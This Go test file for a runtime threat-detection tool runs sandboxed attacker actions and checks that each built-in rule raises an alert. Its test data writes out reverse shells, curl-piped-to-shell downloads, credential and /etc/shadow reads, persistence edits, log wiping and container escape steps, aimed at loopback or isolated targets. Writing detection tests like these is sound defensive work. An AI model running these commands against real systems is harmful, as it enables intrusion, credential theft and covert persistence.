package defaults

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/saker-sec/saker/internal/dockertest"
	defaultrules "github.com/saker-sec/saker/rules"
)

// check is one live check: a script doing the real thing a built-in rule is about, the rules
// it must raise and the output fields the alert must carry. In script and want, {T} is the
// check's unique token, {D} its own directory (its path contains the token) and, for
// container checks, {C} the container's 12-character id. A want value starting with "~" is
// a substring the field must contain; otherwise it is the exact value.
type check struct {
	rules  []string
	script string
	want   map[string]string
}

// etcWrite opens (append, nothing written) file below /etc inside a private mount namespace
// whose /etc is a fresh tmpfs, so the host's /etc is never touched; dir is created first.
func etcWrite(dir, file string) string {
	return fmt.Sprintf(`unshare -m /bin/busybox sh -c 'set -e; /bin/busybox mount -t tmpfs saker-{T} /etc; /bin/busybox mkdir -p %s; : >> %s'`, dir, file)
}

// busyboxAs runs the static busybox copied under name (a dropped tool of that name).
func busyboxAs(name, args string) string {
	return fmt.Sprintf("cp /bin/busybox {D}/%[1]s && {D}/%[1]s %s || true", name, args)
}

var (
	etcFile = func(dir, file, rule string) check {
		return check{[]string{rule}, etcWrite(dir, file), map[string]string{"fd.name": file, "proc.name": "busybox"}}
	}
	exe  = func(name string) map[string]string { return map[string]string{"proc.name": name} }
	read = func(file string) map[string]string { return map[string]string{"proc.name": "cat", "fd.name": file} }
)

const pyPtrace = `sleep 30 & P=$!; /usr/bin/python3 -c '
import ctypes, os, sys
l = ctypes.CDLL(None, use_errno=True); p = int(sys.argv[1])
l.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
assert l.ptrace(16, p, None, None) == 0
os.waitpid(p, 0x40000000)
b = ctypes.create_string_buffer(27 * 8)
assert l.ptrace(12, p, None, b) == 0
assert l.ptrace(13, p, None, b) == 0
l.ptrace(17, p, None, None)
' $P {T}; kill $P`

const netnsConnect = `unshare -n bash -c 'ip link set lo up; ip addr add 10.254.0.1/32 dev lo
/usr/bin/python3 -c "import socket; s = socket.socket(); s.bind((\"10.254.0.1\", 4444)); s.listen(); c, _ = s.accept(); c.recv(100)" &
sleep 0.5; echo {T} > /dev/tcp/10.254.0.1/4444; wait'`

// hostChecks are done on the host.
var hostChecks = []check{
	{[]string{"Hidden program executed"}, "mkdir -p {D}/.hid && cp /bin/true {D}/.hid/prog && {D}/.hid/prog", map[string]string{"proc.name": "prog", "proc.exepath": "{D}/.hid/prog"}},
	{[]string{"Encoded payload decoded into shell"}, "bash -c 'echo dHJ1ZQo= | base64 -d | sh # {T}'", map[string]string{"proc.name": "bash", "proc.cmdline": "~base64 -d | sh # {T}"}},
	{[]string{"Remote script piped into shell"}, "bash -c 'curl -s --max-time 1 http://127.0.0.1:9/{T} | sh'", map[string]string{"proc.name": "bash", "proc.cmdline": "~curl -s"}},
	{[]string{"Interpreter spawned pseudo-terminal"}, `/usr/bin/python3 -c 'import pty; pty.spawn(["true"]) # {T}' </dev/null >/dev/null 2>&1 || true`, map[string]string{"proc.name": "python3", "proc.cmdline": "~pty.spawn"}},
	{[]string{"Interpreter socket one-liner"}, `/usr/bin/python3 -c 'import socket, subprocess # {T}'`, map[string]string{"proc.name": "python3", "proc.cmdline": "~import socket, subprocess # {T}"}},
	{[]string{"Dynamic loader executed directly"}, "/lib64/ld-linux-x86-64.so.2 /bin/echo {T} >/dev/null", map[string]string{"proc.name": "~ld-linux", "proc.cmdline": "~/bin/echo {T}"}},
	{[]string{"Program started with LD_PRELOAD"}, "LD_PRELOAD={D}/none.so /bin/echo {T} >/dev/null 2>&1", map[string]string{"proc.name": "echo", "proc.cmdline": "echo {T}"}},
	{[]string{"Library path points to writable directory"}, "LD_LIBRARY_PATH=/tmp/{T} /bin/echo {T} >/dev/null", map[string]string{"proc.name": "echo", "proc.cmdline": "echo {T}"}},
	etcFile("/etc", "/etc/ld.so.preload", "Dynamic linker preload file modified"),
	{[]string{"Ptrace attach to another process", "Ptrace code injection"}, pyPtrace, map[string]string{"proc.name": "python3"}},
	{[]string{"Debugger attached to running process"}, "sleep 30 & P=$!; timeout 2 strace -p $P -o {D}/strace.out; kill $P; true", map[string]string{"proc.name": "strace", "proc.cmdline": "~-o {D}/strace.out"}},
	{[]string{"Userfaultfd used by unprivileged process"}, `setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 -c 'import ctypes, sys; sys.exit(ctypes.CDLL(None).syscall(323, 1) < 0) # {T}'`, map[string]string{"proc.name": "python3", "user.name": "nobody"}},
	{[]string{"File capabilities granted"}, "cp /bin/true {D}/capbin && setcap cap_setuid+ep {D}/capbin", map[string]string{"proc.name": "setcap", "proc.cmdline": "setcap cap_setuid+ep {D}/capbin"}},
	{[]string{"Setgid bit set on file"}, "touch {D}/sg && chmod g+xs {D}/sg", map[string]string{"proc.name": "chmod", "proc.cmdline": "chmod g+xs {D}/sg"}},
	etcFile("/etc/sudoers.d", "/etc/sudoers.d/saker-{T}", "Sudoers configuration modified"),
	{[]string{"Unprivileged user namespace created"}, `setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 -c 'import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x10000000) != 0) # {T}'`, map[string]string{"proc.name": "python3", "user.name": "nobody"}},
	{[]string{"Setuid shell copy created"}, "cp /bin/sh /tmp/saker-{T}-sh && rm -f /tmp/saker-{T}-sh", map[string]string{"proc.name": "cp", "proc.cmdline": "cp /bin/sh /tmp/saker-{T}-sh"}},
	{[]string{"SSH private key read by unexpected process"}, "mkdir -p {D}/.ssh && echo k > {D}/.ssh/id_rsa && cat {D}/.ssh/id_rsa >/dev/null", read("{D}/.ssh/id_rsa")},
	{[]string{"Cloud provider credentials read"}, "mkdir -p {D}/.aws && echo k > {D}/.aws/credentials && cat {D}/.aws/credentials >/dev/null", read("{D}/.aws/credentials")},
	{[]string{"Process environment of another process read"}, "sleep 30 & P=$!; cat /proc/$P/environ >/dev/null; kill $P", map[string]string{"proc.name": "cat", "fd.name": "~/environ", "proc.cmdline": "~/environ"}},
	{[]string{"Process memory of another process read"}, "sleep 30 & P=$!; cat /proc/$P/mem >/dev/null 2>&1; kill $P; true", map[string]string{"proc.name": "cat", "fd.name": "~/mem"}},
	{[]string{"Container registry credentials read"}, "mkdir -p {D}/.docker && echo '{}' > {D}/.docker/config.json && cat {D}/.docker/config.json >/dev/null", read("{D}/.docker/config.json")},
	{[]string{"Git credential store read"}, "echo k > {D}/.git-credentials && cat {D}/.git-credentials >/dev/null", read("{D}/.git-credentials")},
	{[]string{"Network service password file read"}, "echo k > {D}/.netrc && cat {D}/.netrc >/dev/null", read("{D}/.netrc")},
	{[]string{"Shell history of another program read"}, "echo k > {D}/.bash_history && cat {D}/.bash_history >/dev/null", read("{D}/.bash_history")},
	{[]string{"Kerberos ticket cache read by unexpected process"}, "echo k > /tmp/krb5cc_{T} && cat /tmp/krb5cc_{T} >/dev/null; rm -f /tmp/krb5cc_{T}", read("/tmp/krb5cc_{T}")},
	{[]string{"TLS private key read by unexpected process"}, `unshare -m /bin/busybox sh -c 'set -e; /bin/busybox mount -t tmpfs saker-{T} /etc; /bin/busybox mkdir -p /etc/ssl/private; echo k > /etc/ssl/private/saker-{T}.key; /bin/busybox cat /etc/ssl/private/saker-{T}.key >/dev/null'`, map[string]string{"fd.name": "/etc/ssl/private/saker-{T}.key", "proc.name": "busybox"}},
	etcFile("/etc/pam.d", "/etc/pam.d/saker-{T}", "PAM configuration modified"),
	etcFile("/etc/cron.d", "/etc/cron.d/saker-{T}", "Cron job file modified"),
	etcFile("/etc/systemd/system", "/etc/systemd/system/saker-{T}.service", "Systemd unit file created or modified"),
	{[]string{"User added to privileged group"}, "usermod -aG sudo saker{T} 2>/dev/null; true", map[string]string{"proc.name": "usermod", "proc.cmdline": "usermod -aG sudo saker{T}"}},
	etcFile("/etc/init.d", "/etc/init.d/saker-{T}", "Boot or init script modified"),
	etcFile("/etc/update-motd.d", "/etc/update-motd.d/99-saker-{T}", "Login message script modified"),
	etcFile("/etc/udev/rules.d", "/etc/udev/rules.d/99-saker-{T}.rules", "Udev rule created or modified"),
	{[]string{"At job scheduled"}, busyboxAs("at", "now 2>/dev/null"), map[string]string{"proc.name": "at", "proc.exepath": "{D}/at"}},
	etcFile("/etc/modprobe.d", "/etc/modprobe.d/saker-{T}.conf", "Kernel module autoload configuration modified"),
	etcFile("/etc/ssh/sshd_config.d", "/etc/ssh/sshd_config.d/saker-{T}.conf", "SSH daemon configuration modified"),
	etcFile("/etc/apt/apt.conf.d", "/etc/apt/apt.conf.d/99saker-{T}", "Package manager hook installed"),
	{[]string{"Log file deleted"}, ": > /var/log/saker-{T}.log && rm -f /var/log/saker-{T}.log", map[string]string{"proc.name": "rm", "proc.cmdline": "rm -f /var/log/saker-{T}.log"}},
	{[]string{"Login records tampered"}, `unshare -m /bin/busybox sh -c 'set -e; /bin/busybox mount -t tmpfs saker-{T} /var/log; : >> /var/log/wtmp'`, map[string]string{"fd.name": "/var/log/wtmp", "proc.name": "busybox"}},
	{[]string{"Shell history disabled"}, "bash -c 'export HISTFILE=/dev/null; true # {T}'", map[string]string{"proc.name": "bash", "proc.cmdline": "~HISTFILE=/dev/null"}},
	{[]string{"History file linked to null device"}, "ln -s /dev/null {D}/.bash_history", map[string]string{"proc.name": "ln", "proc.cmdline": "ln -s /dev/null {D}/.bash_history"}},
	{[]string{"File timestamp modified with touch"}, "touch -d 2020-01-01 {D}/ts", map[string]string{"proc.name": "touch", "proc.cmdline": "touch -d 2020-01-01 {D}/ts"}},
	{[]string{"Memory file created by interpreter"}, `/usr/bin/python3 -c 'import os; os.memfd_create("{T}")'`, map[string]string{"proc.name": "python3"}},
	{[]string{"Hidden file created in temporary directory"}, ": > /tmp/.saker-{T}; rm -f /tmp/.saker-{T}", map[string]string{"fd.name": "/tmp/.saker-{T}", "proc.name": "bash"}},
	{[]string{"Firewall rules flushed"}, "unshare -n iptables -F >/dev/null 2>&1; true", map[string]string{"proc.name": "~iptables", "proc.cmdline": "~-F"}},
	{[]string{"Process renamed to kernel thread name"}, `/usr/bin/python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"kworker/0:9", 0, 0, 0) # {T}'`, map[string]string{"proc.cmdline": "~# {T}"}},
	{[]string{"Hosts file modified"}, `echo 127.0.0.1 x > {D}/hosts && unshare -m /bin/busybox sh -c 'set -e; /bin/busybox mount --bind {D}/hosts /etc/hosts; : >> /etc/hosts'`, map[string]string{"fd.name": "/etc/hosts", "proc.name": "busybox"}},
	{[]string{"Immutable attribute set on file"}, "touch {D}/im && chattr +i {D}/im; chattr -i {D}/im; true", map[string]string{"proc.name": "chattr", "proc.cmdline": "chattr +i {D}/im"}},
	{[]string{"Network scanner executed"}, busyboxAs("nmap", "-sS 10.254.0.1 2>/dev/null"), map[string]string{"proc.name": "nmap", "proc.exepath": "{D}/nmap"}},
	{[]string{"Privilege escalation enumeration script executed"}, "/bin/echo linpeas {T} >/dev/null", map[string]string{"proc.name": "echo", "proc.cmdline": "echo linpeas {T}"}},
	{[]string{"Setuid binary search"}, "find {D} -perm -4000", map[string]string{"proc.name": "find", "proc.cmdline": "find {D} -perm -4000"}},
	{[]string{"Capability enumeration"}, "getcap -r {D}", map[string]string{"proc.name": "getcap", "proc.cmdline": "getcap -r {D}"}},
	{[]string{"Security software discovery"}, "pgrep -f falco-{T}; true", map[string]string{"proc.name": "pgrep", "proc.cmdline": "pgrep -f falco-{T}"}},
	{[]string{"Password passed to sshpass"}, busyboxAs("sshpass", "-p x ssh h 2>/dev/null"), map[string]string{"proc.name": "sshpass", "proc.exepath": "{D}/sshpass"}},
	{[]string{"SMB or RPC client executed"}, busyboxAs("smbclient", "-L h 2>/dev/null"), map[string]string{"proc.name": "smbclient"}},
	{[]string{"Shell made outbound connection"}, netnsConnect, map[string]string{"proc.name": "bash"}},
	{[]string{"Raw socket created by unexpected process"}, `/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) # {T}'`, map[string]string{"proc.name": "python3"}},
	{[]string{"Packet socket created by unexpected process"}, `/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW) # {T}'`, map[string]string{"proc.name": "python3"}},
	{[]string{"Cloud metadata credentials requested from command line"}, "unshare -n curl -s --max-time 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/{T}; true", map[string]string{"proc.name": "curl"}},
	{[]string{"File uploaded with command-line HTTP client"}, "echo x > {D}/f; unshare -n curl -s -T {D}/f http://127.0.0.1:9/{T}; true", map[string]string{"proc.name": "curl", "proc.cmdline": "~-T {D}/f"}},
	{[]string{"Tor client activity"}, busyboxAs("torsocks", "2>/dev/null"), map[string]string{"proc.name": "torsocks"}},
	{[]string{"DNS tunneling client run"}, busyboxAs("iodine", "2>/dev/null"), map[string]string{"proc.name": "iodine"}},
	{[]string{"Clear-text file transfer client run"}, busyboxAs("tftp", "--help 2>/dev/null"), map[string]string{"proc.name": "tftp"}},
	{[]string{"Archive of sensitive directory created"}, "tar -cf {D}/a.tar /etc/hostname 2>/dev/null", map[string]string{"proc.name": "tar", "proc.cmdline": "tar -cf {D}/a.tar /etc/hostname"}},
	{[]string{"Mining pool domain on command line"}, "/bin/echo pool.supportxmr.com {T} >/dev/null", map[string]string{"proc.name": "echo"}},
	{[]string{"Miner configuration options on command line"}, "/bin/echo --donate-level 1 {T} >/dev/null", map[string]string{"proc.name": "echo"}},
	{[]string{"Competing miners killed"}, "pgrep -f xmrig-{T}; true", map[string]string{"proc.name": "pgrep"}},
	{[]string{"Huge pages configured by unexpected process"}, "sysctl vm.nr_hugepages >/dev/null # {T}", map[string]string{"proc.name": "sysctl", "proc.cmdline": "sysctl vm.nr_hugepages"}},
	{[]string{"Miner configuration file written"}, ": > {D}/xmrig.json", map[string]string{"fd.name": "{D}/xmrig.json"}},
	{[]string{"Known cryptojacking malware executed"}, busyboxAs("kdevtmpfsi", "2>/dev/null"), map[string]string{"proc.name": "kdevtmpfsi", "proc.exepath": "{D}/kdevtmpfsi"}},
	{[]string{"Web shell written by web server"}, `/usr/bin/python3 -c 'open("{D}/s.php", "w").write("x")'`, map[string]string{"proc.name": "python3", "fd.name": "{D}/s.php"}},
	{[]string{"Kubernetes attack tool executed", "Container escape or enumeration tool executed"}, busyboxAs("peirates", "2>/dev/null"), map[string]string{"proc.name": "peirates"}},
	{[]string{"Etcdctl executed"}, busyboxAs("etcdctl", "get / 2>/dev/null"), map[string]string{"proc.name": "etcdctl"}},
	{[]string{"Kubeconfig read by unexpected process"}, "mkdir -p {D}/.kube && echo k > {D}/.kube/config && cat {D}/.kube/config >/dev/null", read("{D}/.kube/config")},
	{[]string{"Kubernetes secrets listed from command line"}, busyboxAs("kubectl", "get secrets 2>/dev/null"), map[string]string{"proc.name": "kubectl", "proc.cmdline": "kubectl get secrets"}},
	{[]string{"Service account token used on command line"}, "/bin/echo /var/run/secrets/kubernetes.io/serviceaccount/token {T} >/dev/null", map[string]string{"proc.name": "echo"}},
}

// containerChecks are done inside a privileged busybox container (--network none) that has
// a scratch directory of the test mounted at /host (a stand-in for a host mount: nothing of
// the real host is mounted writable) and at /data (a writable volume).
var containerChecks = []check{
	{[]string{"Terminal shell in container"}, "-t sh -c 'true {T}'", map[string]string{"proc.name": "sh", "container.id": "{C}"}},
	{[]string{"Shell started by non-shell program in container"}, "/bin/time /bin/sh -c 'true {T}' 2>/dev/null", map[string]string{"proc.name": "sh", "proc.cmdline": "sh -c true {T}", "container.id": "{C}"}},
	{[]string{"Download tool run in container"}, "/bin/wget -q -T 1 http://10.254.0.1/{T}", map[string]string{"proc.name": "wget", "container.id": "{C}"}},
	{[]string{"Container escape or enumeration tool executed"}, "/bin/echo deepce {T}", map[string]string{"proc.name": "echo", "container.id": "{C}"}},
	{[]string{"Cgroup filesystem mounted in container"}, "sh -c 'mkdir -p /mnt/cg-{T} && /bin/mount -t cgroup2 none /mnt/cg-{T} && umount /mnt/cg-{T}'", map[string]string{"proc.name": "mount", "container.id": "{C}"}},
	{[]string{"Debugfs used from container"}, "sh -c 'mkdir -p /mnt/dbg-{T} && /bin/mount -t debugfs none /mnt/dbg-{T} && umount /mnt/dbg-{T}'", map[string]string{"proc.name": "mount", "container.id": "{C}"}},
	// /dev/vda cannot be opened on this machine (EPERM even for root on the host), so the
	// check makes a block node named like a disk for the (unbound) loop0 and opens that.
	{[]string{"Host block device opened in container"}, "/bin/mknod /dev/sdsaker{T} b 7 0 && /bin/head -c 1 /dev/sdsaker{T} >/dev/null; /bin/rm -f /dev/sdsaker{T}", map[string]string{"proc.name": "head", "fd.name": "/dev/sdsaker{T}", "container.id": "{C}"}},
	{[]string{"Device node created in container"}, "/bin/mknod /dev/sknode{T} c 1 3; /bin/rm -f /dev/sknode{T}", map[string]string{"proc.name": "mknod", "proc.cmdline": "mknod /dev/sknode{T} c 1 3", "container.id": "{C}"}},
	{[]string{"Container runtime socket discovered in container"}, "/bin/ls /var/run/docker.sock-{T}", map[string]string{"proc.name": "ls", "container.id": "{C}"}},
	{[]string{"Write to sysfs from container"}, "/bin/sh -c ': >> /sys/class/net/lo/tx_queue_len # {T}'", map[string]string{"proc.name": "sh", "fd.name": "/sys/class/net/lo/tx_queue_len", "container.id": "{C}"}},
	{[]string{"Host process root filesystem accessed from container"}, "/bin/cat /proc/1/root/etc/hostname", map[string]string{"proc.name": "cat", "fd.name": "~/proc/1/root/", "container.id": "{C}"}},
	{[]string{"Host credentials read through mount in container"}, "/bin/cat /host/etc/shadow", map[string]string{"proc.name": "cat", "fd.name": "/host/etc/shadow", "container.id": "{C}"}},
	{[]string{"Write to host path through mount in container"}, "/bin/sh -c ': >> /host/etc/saker-{T}'", map[string]string{"proc.name": "sh", "fd.name": "/host/etc/saker-{T}", "container.id": "{C}"}},
	{[]string{"Chroot into host filesystem from container"}, "/bin/chroot /host /bin/true", map[string]string{"proc.name": "chroot", "container.id": "{C}"}},
	{[]string{"Process executed from writable volume in container"}, "sh -c 'cp /bin/busybox /data/tool-{T} && /data/tool-{T} true'", map[string]string{"proc.exepath": "/data/tool-{T}", "container.id": "{C}"}},
	{[]string{"Service account token read by unexpected process", "Service account token used on command line"}, "sh -c 'mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo t > /var/run/secrets/kubernetes.io/serviceaccount/token && /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token # {T}'", map[string]string{"container.id": "{C}"}},
	{[]string{"Interpreter reverse shell pattern in container"}, "sh -c 'sh -i >& /dev/tcp/10.254.0.1/4444 0>&1 # {T}'", map[string]string{"proc.name": "sh", "container.id": "{C}"}},
	{[]string{"Kubectl exec or cp run in container"}, "sh -c 'mkdir -p /tools && cp /bin/busybox /tools/kubectl && /tools/kubectl exec pod-{T} -- sh'", map[string]string{"proc.name": "kubectl", "proc.exepath": "/tools/kubectl", "container.id": "{C}"}},
	{[]string{"Etcdctl executed"}, "sh -c 'mkdir -p /tools && cp /bin/busybox /tools/etcdctl && /tools/etcdctl get / {T}'", map[string]string{"proc.name": "etcdctl", "container.id": "{C}"}},
}

// subst fills the placeholders of a script or a wanted value.
func subst(s, tok, dir, cid string) string {
	return strings.NewReplacer("{T}", tok, "{D}", dir, "{C}", cid).Replace(s)
}

// fieldsMatch reports the wanted fields the alert lacks ("" when it has them all).
func fieldsMatch(a *alert, want map[string]string, tok, dir, cid string) string {
	var bad []string
	for k, w := range want {
		w = subst(w, tok, dir, cid)
		v, _ := a.Field(k)
		if c, ok := strings.CutPrefix(w, "~"); ok {
			if !strings.Contains(v, c) {
				bad = append(bad, fmt.Sprintf("%s=%q does not contain %q", k, v, c))
			}
		} else if v != w {
			bad = append(bad, fmt.Sprintf("%s=%q, want %q", k, v, w))
		}
	}
	return strings.Join(bad, "; ")
}

// ofToken reports whether an alert names the check's token in one of its fields.
func ofToken(a *alert, tok string) bool {
	for _, k := range []string{"proc.cmdline", "proc.pcmdline", "fd.name", "proc.exepath", "evt.args"} {
		if v, _ := a.Field(k); strings.Contains(v, tok) {
			return true
		}
	}
	return false
}

// expect waits for each rule of c among the alerts after mark n accepted by ours, and checks
// the wanted fields on one of them.
func expect(t *testing.T, c check, n int, ours func(*alert) bool, tok, dir, cid string) {
	t.Helper()
	for _, r := range c.rules {
		var last string
		a, ok := waitFor(saker, n, func(a *alert) bool {
			if a.Rule != r || !ours(a) {
				return false
			}
			last = fieldsMatch(a, c.want, tok, dir, cid)
			return last == ""
		})
		if ok {
			continue
		}
		if last != "" {
			t.Errorf("rule %q alerted but: %s", r, last)
			continue
		}
		var seen []string
		for _, a := range saker.Since(n) {
			if ours(&a) {
				seen = append(seen, a.Rule)
			}
		}
		t.Errorf("rule %q did not alert within %v (alerts of this check: %q)", r, alertWait, seen)
		_ = a
	}
}

func TestLiveHostRules(t *testing.T) {
	need(t)
	for i, c := range hostChecks {
		tok := fmt.Sprintf("skdh%d%02d", os.Getpid()%100000, i)
		t.Run(c.rules[0], func(t *testing.T) {
			dir := filepath.Join(runDir, tok)
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			defer os.RemoveAll(dir)
			n := saker.Mark()
			script := subst(c.script, tok, dir, "") + "\n# " + tok
			if out, err := runScript(script); err != nil {
				t.Fatalf("action failed: %v\n%s\n%s", err, script, out)
			}
			expect(t, c, n, func(a *alert) bool { return ofToken(a, tok) }, tok, dir, "")
		})
	}
}

func TestLiveContainerRules(t *testing.T) {
	need(t)
	dd := dockertest.Start(t)
	scratch := filepath.Join(runDir, "ctr")
	os.MkdirAll(filepath.Join(scratch, "host", "etc"), 0o755)
	os.MkdirAll(filepath.Join(scratch, "data"), 0o755)
	os.WriteFile(filepath.Join(scratch, "host", "etc", "shadow"), []byte("root:*:1::::::\n"), 0o600)
	id := dd.Run(t, "--privileged", "--network", "none",
		"-v", filepath.Join(scratch, "host")+":/host", "-v", filepath.Join(scratch, "data")+":/data",
		dockertest.Image, "sleep", "600")
	cid := id[:12]
	for i, c := range containerChecks {
		tok := fmt.Sprintf("skdc%d%02d", os.Getpid()%100000, i)
		t.Run(c.rules[0], func(t *testing.T) {
			n := saker.Mark()
			argv := []string{"exec"}
			script := subst(c.script, tok, "", cid)
			if rest, ok := strings.CutPrefix(script, "-t "); ok {
				argv = append(argv, "-t")
				script = rest
			}
			argv = append(argv, id, "sh", "-c", script+" || true")
			if out, err := dd.Try(argv...); err != nil {
				t.Fatalf("docker %q: %v\n%s", argv, err, out)
			}
			expect(t, c, n, func(a *alert) bool {
				v, _ := a.Field("container.id")
				return v == cid
			}, tok, "", cid)
		})
	}
}

// TestLiveCoverage checks that the live checks name at least 40 distinct built-in rules, each
// a rule of the default ruleset.
func TestLiveCoverage(t *testing.T) {
	names := map[string]bool{}
	for _, n := range defaultrules.Names() {
		names[n] = true
	}
	covered := map[string]bool{}
	for _, cs := range [][]check{hostChecks, containerChecks} {
		for _, c := range cs {
			for _, r := range c.rules {
				if !names[r] {
					t.Errorf("%q is not a built-in rule", r)
				}
				covered[r] = true
			}
		}
	}
	if len(covered) < 40 {
		t.Errorf("live checks cover %d built-in rules, want at least 40", len(covered))
	}
	t.Logf("live checks cover %d of %d built-in rules", len(covered), len(names))
}
